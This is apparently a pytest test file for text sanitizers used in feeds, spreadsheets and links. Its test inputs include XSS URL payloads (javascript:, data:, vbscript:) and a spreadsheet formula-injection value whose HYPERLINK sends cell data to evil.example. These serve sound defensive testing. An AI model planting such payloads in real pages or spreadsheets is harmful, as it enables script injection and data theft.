"""The small rules for stored text in feeds, spreadsheets and links (no database)."""

from __future__ import annotations

import xml.dom.minidom
from xml.sax.saxutils import escape

import pytest

from articles.sanitize import csv_cell, http_url, strip_controls, xml_safe


def test_a_title_loses_its_controls_and_its_breaks_become_spaces():
    assert strip_controls("Breaking\x0bnews\x01 today\r\nand\ttomorrow\x7f\x85") == (
        "Breaking news today  and tomorrow "
    )


def test_a_body_keeps_tabs_and_newlines_and_folds_cr():
    assert strip_controls("one\ttwo\r\nthree\rfour\x0b\x00five\x9f", multiline=True) == (
        "one\ttwo\nthree\nfourfive"
    )


def test_printable_text_is_returned_as_it_is():
    text = "Élection à Paris: 50 % \u2013 «oui» مرحبا"
    assert strip_controls(text) is text


def test_xml_safe_text_parses_as_xml():
    every_char = "".join(chr(c) for c in range(0x20)) + "ok\ufffe\uffff\ud800"
    cleaned = xml_safe(every_char)
    assert cleaned == "\t\n\rok"
    xml.dom.minidom.parseString(f"<a>{escape(cleaned)}</a>")


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/news/1",
        "http://example.org",
        "HTTPS://EXAMPLE.ORG/A?b=c#d",
    ],
)
def test_http_and_https_urls_are_links(url):
    assert http_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)//://",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "https:alert(1)",
        "//evil.example/x",
        "/relative/path",
        "ftp://example.org/file",
        "http://[::1",
        "",
        None,
    ],
)
def test_anything_else_is_not_a_link(url):
    assert http_url(url) is None


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("A plain title = fine", "A plain title = fine"),
        (42, "42"),
        (None, ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(value, cell):
    assert csv_cell(value) == cell
